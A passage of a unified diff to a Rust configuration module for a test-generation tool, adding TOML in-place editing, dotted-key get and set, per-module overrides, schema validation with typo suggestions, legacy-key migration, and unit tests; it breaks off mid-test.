+                    "Invalid {} configuration\n  as hierarchical config: {}\n  as legacy config: {}",
+                    format.name(),
+                    hierarchical_error,
+                    legacy_error
+                ),
+            }),
+        }
     }
 
     /// Synchronize legacy fields to match hierarchical structure
@@ -404,7 +1049,12 @@ impl Config {
         self
     }
 
-    /// Save the current configuration to a TOML file.
+    /// Save the configuration to a TOML file.
+    ///
+    /// An existing file is edited in place: only the settings whose value
+    /// differs from what the file says are rewritten, so comments, ordering
+    /// and the user's own layout survive. A new file gets only the settings
+    /// that differ from the defaults.
     ///
     /// # Arguments
     ///
@@ -414,8 +1064,12 @@ impl Config {
     ///
     /// Ok if saving succeeded, or an error
     pub fn save_to_file(&self, path: &Path) -> Result<()> {
-        let contents = toml::to_string_pretty(self)
-            .map_err(|e| AutoTestError::InvalidConfig { message: format!("TOML serialization error: {}", e) })?;
+        let existing = match std::fs::read_to_string(path) {
+            Ok(contents) => contents,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => String::new(),
+            Err(e) => return Err(AutoTestError::FileRead { path: path.to_path_buf(), source: e }),
+        };
+        let contents = self.update_toml(&existing)?;
 
         std::fs::write(path, contents)
             .map_err(|e| AutoTestError::FileWrite {
@@ -426,8 +1080,95 @@ impl Config {
         Ok(())
     }
 
+    /// Rewrite the TOML document `contents` so it loads as this configuration,
+    /// touching only the settings that change.
+    ///
+    /// Keys the configuration doesn't serialize, such as `extends` and
+    /// `[profile.*]`, are left as they are.
+    pub fn update_toml(&self, contents: &str) -> Result<String> {
+        let mut doc: toml_edit::DocumentMut = contents.parse().map_err(|e: toml_edit::TomlError| {
+            AutoTestError::InvalidConfig {
+                message: format!("Invalid TOML syntax: {}", e.to_string().trim_end()),
+            }
+        })?;
+        let current: Config = toml::from_str(contents).map_err(|e| AutoTestError::InvalidConfig {
+            message: format!("Invalid TOML configuration: {}", e.message()),
+        })?;
+        let to_document = |config: &Config| {
+            toml_edit::ser::to_document(config).map_err(|e| AutoTestError::InvalidConfig {
+                message: format!("TOML serialization error: {}", e),
+            })
+        };
+        let (old, new) = (to_document(&current)?, to_document(self)?);
+        merge_toml_item(doc.as_item_mut(), old.as_item(), new.as_item());
+        Ok(doc.to_string())
+    }
+
+    /// Look up a setting by its dotted path, e.g. `generation.output_dir` or
+    /// `types.mappings.Id`.
+    ///
+    /// # Returns
+    ///
+    /// The value (`null` for an unset option), or `None` if there's no such key
+    pub fn get_key(&self, key: &str) -> Option<serde_json::Value> {
+        let mut value = serde_json::to_value(self).ok()?;
+        for segment in key.split('.') {
+            value = value.as_object_mut()?.remove(segment)?;
+        }
+        Some(value)
+    }
+
+    /// Change a setting by its dotted path.
+    ///
+    /// `value` is read as a TOML value (`false`, `8`, `["a", "b"]`), and as a
+    /// plain string when it isn't one or the setting expects a string, so
+    /// `tests2` needs no quotes.
+    ///
+    /// # Returns
+    ///
+    /// Ok, or an error naming the unknown key or the mismatched type
+    pub fn set_key(&mut self, key: &str, value: &str) -> Result<()> {
+        let parsed = format!("value = {}", value)
+            .parse::<toml::Table>()
+            .ok()
+            .and_then(|mut table| table.remove("value"))
+            .and_then(|value| serde_json::to_value(value).ok());
+        let candidates = parsed
+            .into_iter()
+            .chain(std::iter::once(serde_json::Value::String(value.to_string())));
+
+        let mut issues = Vec::new();
+        for candidate in candidates {
+            let mut document = serde_json::to_value(&*self).map_err(|e| AutoTestError::InvalidConfig {
+                message: format!("Configuration serialization error: {}", e),
+            })?;
+            set_json_path(&mut document, key, candidate)?;
+
+            issues = Self::validate_value(&document);
+            if issues.iter().any(|issue| issue.severity == IssueSeverity::Error) {
+                continue;
+            }
+            let mut config: Config = serde_json::from_value(document).map_err(|e| AutoTestError::InvalidConfig {
+                message: format!("{}: {}", key, e),
+            })?;
+            config.selected_functions = self.selected_functions.take();
+            *self = config.sync_legacy_fields();
+            return Ok(());
+        }
+
+        let messages: Vec<String> = issues
+            .iter()
+            .filter(|issue| issue.severity == IssueSeverity::Error)
+            .map(|issue| format!("{}: {}", issue.path, issue.message))
+            .collect();
+        Err(AutoTestError::InvalidConfig { message: messages.join("; ") })
+    }
+
     /// Get the value for a type mapping, falling back to defaults.
     ///
+    /// Whitespace is ignored, and a key without generics (`"Html"`) matches
+    /// every instantiation of the type (`Html<'static>`).
+    ///
     /// # Arguments
     ///
     /// * `type_name` - The type name to look up
@@ -436,7 +1177,15 @@ impl Config {
     ///
     /// The mapped value if found, None otherwise
     pub fn get_type_mapping(&self, type_name: &str) -> Option<&String> {
-        self.type_mappings.get(type_name)
+        self.type_mappings
+            .get(type_name)
+            .or_else(|| lookup_type_key(&self.type_mappings, type_name))
+    }
+
+    /// Get the configured assertion for a return type from
+    /// `generation.custom_assertions`, matched like [`Config::get_type_mapping`].
+    pub fn custom_assertion(&self, type_name: &str) -> Option<&String> {
+        lookup_type_key(&self.generation.custom_assertions, type_name)
     }
 
     /// Check if a function should be skipped based on configuration.
@@ -451,11 +1200,134 @@ impl Config {
     pub fn should_skip_function(&self, function_name: &str) -> bool {
         self.skip_functions.iter().any(|skip| function_name.contains(skip))
     }
+
+    /// Find the `[module."<path>"]` overrides that apply to a module.
+    ///
+    /// # Arguments
+    ///
+    /// * `module_path` - Module path relative to the crate root, e.g. `core::parser`
+    ///
+    /// # Returns
+    ///
+    /// The most specific section naming the module or one of its ancestors
+    pub fn module_config(&self, module_path: &str) -> Option<&ModuleConfig> {
+        self.modules
+            .iter()
+            .map(|(key, overrides)| {
+                let key = key.trim_start_matches("crate::");
+                (if key == "crate" { "" } else { key }, overrides)
+            })
+            .filter(|(key, _)| {
+                module_path == *key || (!key.is_empty() && module_path.starts_with(&format!("{}::", key)))
+            })
+            .max_by_key(|(key, _)| key.len())
+            .map(|(_, overrides)| overrides)
+    }
+
+    /// Configuration with a module's overrides applied.
+    ///
+    /// # Arguments
+    ///
+    /// * `module_path` - Module path relative to the crate root
+    ///
+    /// # Returns
+    ///
+    /// A copy of this configuration; skip lists and type mappings are extended,
+    /// output directory and strategy replaced
+    pub fn for_module(&self, module_path: &str) -> Config {
+        let mut config = self.clone();
+        let Some(overrides) = self.module_config(module_path) else {
+            return config;
+        };
+
+        if let Some(output_dir) = &overrides.output_dir {
+            config.generation.output_dir = output_dir.clone();
+        }
+        if let Some(strategy) = &overrides.strategy {
+            config.generation.strategy = strategy.clone();
+        }
+        config.generation.skip_functions.extend(overrides.skip_functions.iter().cloned());
+        config
+            .types
+            .mappings
+            .extend(overrides.type_mappings.iter().map(|(k, v)| (k.clone(), v.clone())));
+        config.sync_legacy_fields()
+    }
+
+    /// Check whether a function is part of the interactive selection, if any.
+    ///
+    /// # Arguments
+    ///
+    /// * `file` - Source file of the function
+    /// * `function_name` - The name of the function
+    pub fn is_selected(&self, file: &str, function_name: &str) -> bool {
+        let Some(selected) = &self.selected_functions else {
+            return true;
+        };
+        let file = Path::new(file);
+        let file = file.canonicalize().unwrap_or_else(|_| file.to_path_buf());
+        selected.contains(&(file, function_name.to_string()))
+    }
+
+    /// Check if a function should be skipped, including its module's skip list.
+    ///
+    /// # Arguments
+    ///
+    /// * `function_name` - The name of the function to check
+    /// * `module_path` - Module path of the function, relative to the crate root
+    ///
+    /// # Returns
+    ///
+    /// True if the function should be skipped
+    pub fn should_skip_function_in_module(&self, function_name: &str, module_path: &str) -> bool {
+        self.should_skip_function(function_name)
+            || self
+                .module_config(module_path)
+                .is_some_and(|m| m.skip_functions.iter().any(|skip| function_name.contains(skip)))
+    }
+
+    /// Collect the extra test attributes configured for a function.
+    ///
+    /// # Arguments
+    ///
+    /// * `function_name` - The name of the function under test
+    /// * `types` - Parameter and return types of the function
+    ///
+    /// # Returns
+    ///
+    /// Attributes from all matching rules, in rule order and without duplicates
+    pub fn test_attributes_for(&self, function_name: &str, types: &[&str]) -> Vec<String> {
+        let mut attributes: Vec<String> = Vec::new();
+        for rule in &self.generation.attribute_rules {
+            if rule.matches(function_name, types) {
+                for attr in &rule.attributes {
+                    if !attributes.contains(attr) {
+                        attributes.push(attr.clone());
+                    }
+                }
+            }
+        }
+        attributes
+    }
+}
+
+/// Look up a type in a map keyed by type names, ignoring whitespace and
+/// letting generic-free keys match any instantiation.
+fn lookup_type_key<'a>(map: &'a HashMap<String, String>, type_name: &str) -> Option<&'a String> {
+    let compact: String = type_name.chars().filter(|c| !c.is_whitespace()).collect();
+    let base = compact.split('<').next().unwrap_or(&compact);
+    map.iter()
+        .map(|(key, value)| (key.chars().filter(|c| !c.is_whitespace()).collect::<String>(), value))
+        .filter(|(key, _)| *key == compact || (!key.contains('<') && key == base))
+        .max_by_key(|(key, _)| key.len())
+        .map(|(_, value)| value)
 }
 
 /// Find the project root by searching for common project indicators.
 pub fn find_project_root(start_path: &Path) -> Result<PathBuf> {
-    let mut current = start_path.canonicalize().map_err(|e| AutoTestError::Io { source: e })?;
+    let mut current = start_path
+        .canonicalize()
+        .map_err(|_| AutoTestError::ProjectRootNotFound { path: start_path.to_path_buf() })?;
 
     loop {
         // Check for Cargo.toml (Rust project)
@@ -502,6 +1374,459 @@ pub fn load_config(project_path: &Path) -> Result<Config> {
     Config::load(&project_root)
 }
 
+/// Legacy flat keys and the hierarchical key that replaces each of them.
+const LEGACY_KEYS: &[(&str, &str)] = &[
+    ("output_dir", "generation.output_dir"),
+    ("skip_functions", "generation.skip_functions"),
+    ("type_mappings", "types.mappings"),
+    ("include_private", "generation.include_private"),
+    ("parallel", "performance.parallel"),
+    ("parallel_chunk_size", "performance.parallel_chunk_size"),
+    ("respect_gitignore", "filesystem.respect_gitignore"),
+    ("skip_patterns", "filesystem.skip_patterns"),
+    ("timeout_seconds", "generation.timeout_seconds"),
+];
+
+/// How serious a configuration problem is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum IssueSeverity {
+    /// The key is ignored or the value rejected.
+    Error,
+    /// The config works but should be updated.
+    Warning,
+}
+
+/// A problem found while validating a configuration file.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ConfigIssue {
+    pub severity: IssueSeverity,
+    /// Dotted key path, e.g. `generation.parallel`.
+    pub path: String,
+    pub message: String,
+}
+
+impl std::fmt::Display for ConfigIssue {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let severity = match self.severity {
+            IssueSeverity::Error => "error",
+            IssueSeverity::Warning => "warning",
+        };
+        write!(f, "{}: {}: {}", severity, self.path, self.message)
+    }
+}
+
+impl Config {
+    /// JSON Schema describing the hierarchical configuration format.
+    pub fn json_schema() -> serde_json::Value {
+        serde_json::to_value(schemars::schema_for!(Config)).unwrap_or_default()
+    }
+
+    /// Validate a configuration file without loading it.
+    ///
+    /// # Arguments
+    ///
+    /// * `path` - Path to a `.toml` or `.yaml` configuration file
+    ///
+    /// # Returns
+    ///
+    /// Unknown keys, type mismatches and deprecated legacy keys, or an error if
+    /// the file can't be read or isn't valid TOML/YAML
+    pub fn validate_file(path: &Path) -> Result<Vec<ConfigIssue>> {
+        let format = ConfigFormat::from_path(path).ok_or_else(|| AutoTestError::InvalidConfig {
+            message: "Unsupported configuration file format. Use .toml or .yaml".to_string(),
+        })?;
+        let contents = std::fs::read_to_string(path).map_err(|e| AutoTestError::FileRead {
+            path: path.to_path_buf(),
+            source: e,
+        })?;
+        let value = format
+            .parse_value(&contents)
+            .map_err(|message| AutoTestError::InvalidConfig { message })?;
+
+        Ok(Self::validate_value(&value))
+    }
+
+    /// Validate a parsed configuration document against [`Config::json_schema`].
+    pub fn validate_value(value: &serde_json::Value) -> Vec<ConfigIssue> {
+        let schema = Self::json_schema();
+        let mut issues = Vec::new();
+
+        let Some(root) = value.as_object() else {
+            issues.push(ConfigIssue {
+                severity: IssueSeverity::Error,
+                path: "<root>".to_string(),
+                message: "expected a table of configuration sections".to_string(),
+            });
+            return issues;
+        };
+
+        for (key, item) in root {
+            if let Some((_, replacement)) = LEGACY_KEYS.iter().find(|(legacy, _)| legacy == key) {
+                issues.push(ConfigIssue {
+                    severity: IssueSeverity::Warning,
+                    path: key.clone(),
+                    message: format!(
+                        "legacy flat key is deprecated; use `{}` instead (see `autotest config migrate`)",
+                        replacement
+                    ),
+                });
+                continue;
+            }
+
+            match key.as_str() {
+                "extends" => {
+                    let ok = item.is_string()
+                        || item.as_array().is_some_and(|items| items.iter().all(|i| i.is_string()));
+                    if !ok {
+                        issues.push(ConfigIssue {
+                            severity: IssueSeverity::Error,
+                            path: key.clone(),
+                            message: "expected a string or a list of strings".to_string(),
+                        });
+                    }
+                }
+                "allow_remote_hooks" if !item.is_boolean() => {
+                    issues.push(ConfigIssue {
+                        severity: IssueSeverity::Error,
+                        path: key.clone(),
+                        message: "expected a boolean".to_string(),
+                    });
+                }
+                "allow_remote_hooks" => {}
+                "profile" => {
+                    for (name, profile) in item.as_object().into_iter().flatten() {
+                        let mut profile_issues = Self::validate_value(profile);
+                        for issue in &mut profile_issues {
+                            issue.path = format!("profile.{}.{}", name, issue.path);
+                        }
+                        issues.extend(profile_issues);
+                    }
+                }
+                _ => {
+                    let single = serde_json::json!({ key.clone(): item.clone() });
+                    check_schema(&single, &schema, &schema, "", &mut issues);
+                }
+            }
+        }
+
+        issues
+    }
+}
+
+impl Config {
+    /// Rewrite a legacy flat TOML config in the hierarchical layout.
+    ///
+    /// Values are converted through `From<LegacyConfig>`; each legacy key moves
+    /// into its section together with the comments attached to it, and the rest
+    /// of the document (including `extends` and profiles) is left as written.
+    /// A legacy key whose hierarchical replacement is already set is dropped,
+    /// matching how such files are loaded.
+    ///
+    /// # Arguments
+    ///
+    /// * `contents` - The TOML document to migrate
+    ///
+    /// # Returns
+    ///
+    /// The migrated document, or `None` if it contains no legacy keys
+    pub fn migrate_legacy_toml(contents: &str) -> Result<Option<String>> {
+        let mut doc: toml_edit::DocumentMut = contents.parse().map_err(|e: toml_edit::TomlError| {
+            AutoTestError::InvalidConfig {
+                message: format!("Invalid TOML syntax: {}", e.to_string().trim_end()),
+            }
+        })?;
+
+        let present: Vec<(&str, &str)> = LEGACY_KEYS
+            .iter()
+            .copied()
+            .filter(|(legacy, _)| doc.contains_key(legacy))
+            .collect();
+        if present.is_empty() {
+            return Ok(None);
+        }
+
+        let legacy: LegacyConfig = ConfigFormat::Toml
+            .deserialize(contents)
+            .map_err(|e| AutoTestError::InvalidConfig {
+                message: format!("Invalid legacy TOML configuration: {}", e),
+            })?;
+        let converted = toml_edit::ser::to_document(&Config::from(legacy)).map_err(|e| {
+            AutoTestError::InvalidConfig {
+                message: format!("TOML serialization error: {}", e),
+            }
+        })?;
+
+        for (legacy_key, replacement) in present {
+            let Some((old_key, old_item)) = doc.remove_entry(legacy_key) else {
+                continue;
+            };
+            let (section, field) = replacement.split_once('.').unwrap_or(("", replacement));
+
+            let table = doc
+                .entry(section)
+                .or_insert_with(|| {
+                    let mut table = toml_edit::Table::new();
+                    table.set_implicit(true);
+                    toml_edit::Item::Table(table)
+                })
+                .as_table_like_mut()
+                .ok_or_else(|| AutoTestError::InvalidConfig {
+                    message: format!("Cannot migrate `{}`: `{}` is not a table", legacy_key, section),
+                })?;
+            if table.contains_key(field) {
+                continue;
+            }
+
+            let Some(item) = converted.get(section).and_then(|s| s.get(field)).cloned() else {
+                continue;
+            };
+            // Keep the original shape: `[type_mappings]` becomes `[types.mappings]`
+            let item = match (item, &old_item) {
+                (toml_edit::Item::Value(toml_edit::Value::InlineTable(inline)), toml_edit::Item::Table(old)) => {
+                    let mut new = inline.into_table();
+                    *new.decor_mut() = old.decor().clone();
+                    toml_edit::Item::Table(new)
+                }
+                (toml_edit::Item::Value(mut new), toml_edit::Item::Value(old)) => {
+                    *new.decor_mut() = old.decor().clone();
+                    toml_edit::Item::Value(new)
+                }
+                (item, _) => item,
+            };
+            let is_value = item.is_value();
+            table.insert(field, item);
+            if let (true, Some(mut key)) = (is_value, table.key_mut(field)) {
+                *key.leaf_decor_mut() = old_key.leaf_decor().clone();
+            }
+        }
+
+        Ok(Some(doc.to_string()))
+    }
+}
+
+/// Set the value at the dotted `key` of a JSON document, creating the tables
+/// on the way; unknown keys are left for schema validation to report.
+fn set_json_path(document: &mut serde_json::Value, key: &str, value: serde_json::Value) -> Result<()> {
+    let segments: Vec<&str> = key.split('.').collect();
+    if segments.iter().any(|segment| segment.is_empty()) {
+        return Err(AutoTestError::InvalidConfig {
+            message: format!("Invalid key `{}`: expected a dotted path such as `generation.output_dir`", key),
+        });
+    }
+
+    let (last, parents) = segments.split_last().unwrap_or((&"", &[]));
+    let mut table = document;
+    for (i, segment) in parents.iter().enumerate() {
+        if table.is_null() {
+            *table = serde_json::Value::Object(serde_json::Map::new());
+        }
+        table = table
+            .as_object_mut()
+            .ok_or_else(|| AutoTestError::InvalidConfig {
+                message: format!("`{}` is not a table", segments[..i].join(".")),
+            })?
+            .entry(segment.to_string())
+            .or_insert(serde_json::Value::Null);
+    }
+    if table.is_null() {
+        *table = serde_json::Value::Object(serde_json::Map::new());
+    }
+    table
+        .as_object_mut()
+        .ok_or_else(|| AutoTestError::InvalidConfig {
+            message: format!("`{}` is not a table", parents.join(".")),
+        })?
+        .insert(last.to_string(), value);
+    Ok(())
+}
+
+/// Bring the table-like `doc` from the settings `old` to `new`, both serialized
+/// configurations: changed values are replaced in place with their decor, new
+/// ones are appended, and removed ones (an option set back to `None`) dropped.
+fn merge_toml_item(doc: &mut toml_edit::Item, old: &toml_edit::Item, new: &toml_edit::Item) {
+    let Some(new_table) = new.as_table_like() else {
+        return;
+    };
+    let inline = doc.is_inline_table();
+    let Some(table) = doc.as_table_like_mut() else {
+        return;
+    };
+
+    for (key, new_item) in new_table.iter() {
+        let old_item = old.get(key);
+        if new_item.is_table_like() && old_item.is_some_and(|item| item.is_table_like()) {
+            if !table.get(key).is_some_and(|item| item.is_table_like()) {
+                let section = if inline {
+                    toml_edit::Item::Value(toml_edit::Value::InlineTable(toml_edit::InlineTable::new()))
+                } else {
+                    let mut section = toml_edit::Table::new();
+                    section.set_implicit(true);
+                    toml_edit::Item::Table(section)
+                };
+                table.insert(key, section);
+            }
+            if let Some(section) = table.get_mut(key) {
+                merge_toml_item(section, old_item.unwrap_or(&toml_edit::Item::None), new_item);
+            }
+            continue;
+        }
+        if old_item.map(|item| item.to_string()) == Some(new_item.to_string()) {
+            continue;
+        }
+
+        let mut item = new_item.clone();
+        if let (toml_edit::Item::Value(value), Some(toml_edit::Item::Value(previous))) = (&mut item, table.get(key)) {
+            *value.decor_mut() = previous.decor().clone();
+        }
+        table.insert(key, item);
+    }
+
+    if let Some(old_table) = old.as_table_like() {
+        for (key, _) in old_table.iter() {
+            if !new_table.contains_key(key) {
+                table.remove(key);
+            }
+        }
+    }
+}
+
+/// Check `value` against a schemars-generated `schema`, collecting issues.
+fn check_schema(
+    value: &serde_json::Value,
+    schema: &serde_json::Value,
+    root: &serde_json::Value,
+    path: &str,
+    issues: &mut Vec<ConfigIssue>,
+) {
+    // Follow `$ref: "#/$defs/Name"`
+    if let Some(reference) = schema.get("$ref").and_then(|r| r.as_str()) {
+        let target = reference
+            .strip_prefix("#/")
+            .map(|pointer| root.pointer(&format!("/{}", pointer)))
+            .unwrap_or(None);
+        if let Some(target) = target {
+            check_schema(value, target, root, path, issues);
+        }
+        return;
+    }
+
+    // Option<T> and other unions: valid if any alternative accepts the value
+    if let Some(alternatives) = schema.get("anyOf").or_else(|| schema.get("oneOf")).and_then(|a| a.as_array()) {
+        let mut best: Option<Vec<ConfigIssue>> = None;
+        for alternative in alternatives {
+            let mut candidate = Vec::new();
+            check_schema(value, alternative, root, path, &mut candidate);
+            if candidate.is_empty() {
+                return;
+            }
+            if best.as_ref().is_none_or(|b| candidate.len() < b.len()) {
+                best = Some(candidate);
+            }
+        }
+        issues.extend(best.unwrap_or_default());
+        return;
+    }
+
+    if let Some(expected) = schema.get("type") {
+        let types: Vec<&str> = match expected {
+            serde_json::Value::String(t) => vec![t.as_str()],
+            serde_json::Value::Array(ts) => ts.iter().filter_map(|t| t.as_str()).collect(),
+            _ => Vec::new(),
+        };
+        let matches = types.iter().any(|t| match *t {
+            "null" => value.is_null(),
+            "boolean" => value.is_boolean(),
+            "integer" => value.is_i64() || value.is_u64(),
+            "number" => value.is_number(),
+            "string" => value.is_string(),
+            "array" => value.is_array(),
+            "object" => value.is_object(),
+            _ => true,
+        });
+        if !types.is_empty() && !matches {
+            issues.push(ConfigIssue {
+                severity: IssueSeverity::Error,
+                path: display_path(path),
+                message: format!("expected {}, found {}", types.join(" or "), json_type(value)),
+            });
+            return;
+        }
+    }
+
+    if let (Some(object), Some(properties)) = (
+        value.as_object(),
+        schema.get("properties").and_then(|p| p.as_object()),
+    ) {
+        for (key, item) in object {
+            let item_path = join_path(path, key);
+            match properties.get(key) {
+                Some(property) => check_schema(item, property, root, &item_path, issues),
+                None => {
+                    let suggestion = properties
+                        .keys()
+                        .map(|known| (edit_distance(key, known), known))
+                        .filter(|(distance, _)| *distance <= 2)
+                        .min()
+                        .map(|(_, known)| format!(" (did you mean `{}`?)", known))
+                        .unwrap_or_default();
+                    issues.push(ConfigIssue {
+                        severity: IssueSeverity::Error,
+                        path: item_path,
+                        message: format!("unknown key{}", suggestion),
+                    });
+                }
+            }
+        }
+    } else if let (Some(object), Some(additional)) = (value.as_object(), schema.get("additionalProperties")) {
+        for (key, item) in object {
+            check_schema(item, additional, root, &join_path(path, key), issues);
+        }
+    } else if let (Some(items), Some(item_schema)) = (value.as_array(), schema.get("items")) {
+        for (i, item) in items.iter().enumerate() {
+            check_schema(item, item_schema, root, &format!("{}[{}]", path, i), issues);
+        }
+    }
+}
+
+fn join_path(path: &str, key: &str) -> String {
+    if path.is_empty() {
+        key.to_string()
+    } else {
+        format!("{}.{}", path, key)
+    }
+}
+
+fn display_path(path: &str) -> String {
+    if path.is_empty() { "<root>".to_string() } else { path.to_string() }
+}
+
+fn json_type(value: &serde_json::Value) -> &'static str {
+    match value {
+        serde_json::Value::Null => "null",
+        serde_json::Value::Bool(_) => "boolean",
+        serde_json::Value::Number(n) if n.is_f64() => "number",
+        serde_json::Value::Number(_) => "integer",
+        serde_json::Value::String(_) => "string",
+        serde_json::Value::Array(_) => "array",
+        serde_json::Value::Object(_) => "table",
+    }
+}
+
+/// Levenshtein distance, for "did you mean" suggestions.
+fn edit_distance(a: &str, b: &str) -> usize {
+    let b: Vec<char> = b.chars().collect();
+    let mut previous: Vec<usize> = (0..=b.len()).collect();
+    for (i, ca) in a.chars().enumerate() {
+        let mut current = vec![i + 1];
+        for (j, cb) in b.iter().enumerate() {
+            let substitution = previous[j] + usize::from(ca != *cb);
+            current.push(substitution.min(previous[j + 1] + 1).min(current[j] + 1));
+        }
+        previous = current;
+    }
+    previous[b.len()]
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -518,14 +1843,40 @@ mod tests {
 
     #[test]
     fn test_should_skip_function() {
-        let mut config = Config::default();
-        config.skip_functions = vec!["test_".to_string(), "skip_me".to_string()];
+        let config = Config {
+            skip_functions: vec!["test_".to_string(), "skip_me".to_string()],
+            ..Default::default()
+        };
 
         assert!(config.should_skip_function("test_function"));
         assert!(config.should_skip_function("some_skip_me_function"));
         assert!(!config.should_skip_function("normal_function"));
     }
 
+    #[test]
+    fn test_attribute_rules() {
+        let mut config = Config::default();
+        config.generation.attribute_rules = vec![
+            AttributeRule {
+                function_pattern: Some("env".to_string()),
+                attributes: vec!["#[serial]".to_string()],
+                ..Default::default()
+            },
+            AttributeRule {
+                type_pattern: Some("TcpStream".to_string()),
+                attributes: vec!["#[ignore = \"network\"]".to_string(), "#[serial]".to_string()],
+                ..Default::default()
+            },
+        ];
+
+        assert_eq!(config.test_attributes_for("read_env", &["String"]), vec!["#[serial]"]);
+        assert_eq!(
+            config.test_attributes_for("read_env", &["&TcpStream"]),
+            vec!["#[serial]", "#[ignore = \"network\"]"]
+        );
+        assert!(config.test_attributes_for("parse", &["&str"]).is_empty());
+    }
+
     #[test]
     fn test_load_from_toml_file() {
         let temp_dir = tempdir().unwrap();
@@ -547,6 +1898,42 @@ respect_gitignore = false
         assert!(!config.respect_gitignore);
     }
 
+    #[test]
+    fn test_module_overrides() {
+        let config: Config = toml::from_str(
+            r#"
+[types.mappings]
+Id = "Id(1)"
+
+[module."core"]
+skip_functions = ["internal_"]
+
+[module."core::parser"]
+strategy = "property"
+output_dir = "tests/parser"
+type_mappings = { Token = "Token::Eof" }
+
+[module.crate]
+strategy = "unit"
+"#,
+        )
+        .unwrap();
+        let config = config.sync_legacy_fields();
+
+        let parser = config.for_module("core::parser::lexer");
+        assert_eq!(parser.generation.strategy, "property");
+        assert_eq!(parser.output_dir, "tests/parser");
+        assert_eq!(parser.get_type_mapping("Token").unwrap(), "Token::Eof");
+        assert_eq!(parser.get_type_mapping("Id").unwrap(), "Id(1)");
+        // Only the most specific section applies
+        assert!(!parser.should_skip_function("internal_helper"));
+
+        assert!(config.should_skip_function_in_module("internal_helper", "core::io"));
+        assert!(!config.should_skip_function_in_module("internal_helper", "corelib"));
+        assert_eq!(config.for_module("").generation.strategy, "unit");
+        assert_eq!(config.for_module("io").generation.strategy, "integration");
+    }
+
     #[test]
     fn test_load_from_yaml_file() {
         let temp_dir = tempdir().unwrap();
@@ -570,4 +1957,305 @@ type_mappings:
         assert!(config.skip_patterns.contains(&"**/docs/**".to_string()));
         assert_eq!(config.get_type_mapping("MyCustomType").unwrap(), "MyCustomType::new()");
     }
+
+    #[test]
+    fn test_load_hierarchical_config_and_report_parse_errors() {
+        let temp_dir = tempdir().unwrap();
+        let config_path = temp_dir.path().join("auto_test.toml");
+
+        fs::write(&config_path, "[generation]\noutput_dir = \"gen\"\n\n[performance]\nparallel = false\n").unwrap();
+        let config = Config::load_from_file(&config_path).unwrap();
+        assert_eq!(config.output_dir, "gen");
+        assert!(!config.parallel);
+
+        fs::write(&config_path, "[generation]\nmax_tests = \"many\"\n").unwrap();
+        let err = Config::load_from_file(&config_path).unwrap_err().to_string();
+        assert!(err.contains("line 2, column 13"), "{}", err);
+        assert!(err.contains("invalid type: string \"many\""), "{}", err);
+
+        fs::write(&config_path, "parallel = \"no\"\n\n[generation]\nmax_tests = \"many\"\n").unwrap();
+        let err = Config::load_from_file(&config_path).unwrap_err().to_string();
+        assert!(err.contains("as hierarchical config: TOML parse error at line 4"), "{}", err);
+        assert!(err.contains("as legacy config: TOML parse error at line 1"), "{}", err);
+
+        fs::write(&config_path, "[generation\n").unwrap();
+        let err = Config::load_from_file(&config_path).unwrap_err().to_string();
+        assert!(err.contains("Invalid TOML syntax"), "{}", err);
+    }
+
+    #[test]
+    fn test_profiles_override_base_config() {
+        let temp_dir = tempdir().unwrap();
+        let config_path = temp_dir.path().join("auto_test.toml");
+
+        let toml_content = r#"
+output_dir = "tests"
+parallel = true
+skip_functions = ["internal_"]
+
+[profile.ci]
+parallel = false
+skip_functions = ["internal_", "slow_"]
+
+[profile.local]
+output_dir = "scratch"
+"#;
+
+        fs::write(&config_path, toml_content).unwrap();
+
+        let base = Config::load_from_file_with_profile(&config_path, None).unwrap();
+        assert!(base.parallel);
+        assert!(!base.should_skip_function("slow_path"));
+
+        let ci = Config::load_from_file_with_profile(&config_path, Some("ci")).unwrap();
+        assert!(!ci.parallel);
+        assert_eq!(ci.output_dir, "tests");
+        assert!(ci.should_skip_function("slow_path"));
+
+        let err = Config::load_from_file_with_profile(&config_path, Some("nightly")).unwrap_err();
+        assert!(err.to_string().contains("available: ci, local"));
+    }
+
+    #[test]
+    fn test_extends_merges_bases_and_detects_cycles() {
+        let temp_dir = tempdir().unwrap();
+        let shared = temp_dir.path().join("shared");
+        fs::create_dir_all(&shared).unwrap();
+
+        fs::write(
+            shared.join("team.yaml"),
+            "output_dir: team_tests\nparallel: false\ntype_mappings:\n  Money: \"Money::zero()\"\n",
+        )
+        .unwrap();
+        let config_path = temp_dir.path().join("auto_test.toml");
+        fs::write(
+            &config_path,
+            "extends = \"shared/team.yaml\"\noutput_dir = \"tests\"\n\n[type_mappings]\nId = \"Id(1)\"\n",
+        )
+        .unwrap();
+
+        let config = Config::load_from_file(&config_path).unwrap();
+        assert_eq!(config.output_dir, "tests");
+        assert!(!config.parallel);
+        assert_eq!(config.get_type_mapping("Money").unwrap(), "Money::zero()");
+        assert_eq!(config.get_type_mapping("Id").unwrap(), "Id(1)");
+
+        fs::write(shared.join("team.yaml"), "extends: ../auto_test.toml\n").unwrap();
+        let err = Config::load_from_file(&config_path).unwrap_err();
+        assert!(err.to_string().contains("cycle"));
+    }
+
+    #[test]
+    fn test_validate_reports_unknown_keys_types_and_legacy_fields() {
+        let value: serde_json::Value = toml::from_str(
+            r#"
+output_dir = "tests"
+
+[generation]
+paralel = true
+max_tests = "many"
+include_covered = true
+
+[performance]
+parallel = false
+
+[profile.ci.filesystem]
+respect_gitignor = false
+"#,
+        )
+        .unwrap();
+
+        let issues: Vec<String> = Config::validate_value(&value)
+            .iter()
+            .map(ToString::to_string)
+            .collect();
+        assert_eq!(
+            issues,
+            vec![
+                "error: generation.max_tests: expected integer or null, found string",
+                "error: generation.paralel: unknown key",
+                "warning: output_dir: legacy flat key is deprecated; use `generation.output_dir` instead (see `autotest config migrate`)",
+                "error: profile.ci.filesystem.respect_gitignor: unknown key (did you mean `respect_gitignore`?)",
+            ]
+        );
+    }
+
+    #[test]
+    fn test_migrate_legacy_toml_moves_keys_into_sections() {
+        let legacy = r#"extends = "../base.toml"
+
+# Where tests go
+output_dir = "custom_tests" # relative to the project root
+parallel = false
+skip_functions = ["internal_"]
+
+[type_mappings]
+Id = "Id::new(1)"
+
+[performance]
+parallel_chunk_size = 10
+"#;
+
+        let migrated = Config::migrate_legacy_toml(legacy).unwrap().unwrap();
+        assert_eq!(
+            migrated,
